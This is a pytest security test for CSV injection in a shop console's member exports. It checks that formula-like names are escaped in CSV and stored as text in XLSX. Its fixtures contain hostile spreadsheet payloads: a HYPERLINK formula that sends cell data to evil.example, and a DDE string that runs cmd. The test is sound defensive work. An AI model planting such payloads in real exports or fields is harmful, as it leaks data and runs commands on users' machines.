"""CSV injection: a member's name is whatever the shop's user typed, and the console's
exports are opened in spreadsheets. No text of an export may open as a formula (OWASP,
"CSV Injection"): in XLSX it is a string cell, in CSV a formula-like text is written
after a `'`; plain figures and phones stay as they are."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import update

from tests.security.conftest import sqlite_only
from tests.service.conftest import Api
from tests.service.test_console_pages import sign_in
from zengzhi.service.base import Context
from zengzhi.store import tables as t

LINK = '=HYPERLINK("https://evil.example/?"&C2,"open")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLAIN = "-2+3"  # digits and signs only: nothing a formula could call


@sqlite_only  # the files' writing: the database does not matter
def test_no_exported_text_opens_as_a_formula(api: Api, context: Context) -> None:
    api.member("m1", name=LINK)
    api.member("m2", name=DDE, phone="+86 138 0000 0002")
    api.member("m3", name=PLAIN)
    # a name starting with a tab is refused now (a name is one line of visible
    # characters, test_hostile_fields.py), but one kept before is still exported
    refused = api.post("/v1/members", {"id": "m4", "name": "\tTAB"})
    assert (refused.status_code, refused.json()["field"]) == (422, "name")
    api.member("m4")
    with context.database.write() as connection:
        connection.execute(
            update(t.members)
            .where(t.members.c.tenant_id == api.tenant, t.members.c.member_id == "m4")
            .values(name="\tTAB")
        )
    sign_in(api.client, api.tenant)

    exported = api.client.get("/console/members/export.csv", params={"sort": "id"})
    assert exported.status_code == 200
    table = {r["id"]: r for r in csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))}
    assert table["m1"]["name"] == "'" + LINK
    assert table["m2"]["name"] == "'" + DDE
    assert table["m2"]["phone"] == "+86 138 0000 0002"
    assert table["m3"]["name"] == PLAIN
    assert table["m4"]["name"] == "'\tTAB"

    book = api.client.get("/console/members/export.xlsx", params={"sort": "id"})
    assert book.status_code == 200
    sheet = load_workbook(io.BytesIO(book.content)).active
    assert sheet is not None
    names = {line[0].value: line[1] for line in sheet.iter_rows(min_row=2)}
    for member, name in (("m1", LINK), ("m2", DDE), ("m3", PLAIN)):
        assert names[member].value == name, member  # its text exact…
        assert names[member].data_type == "s", member  # …as text, never a formula ("f")
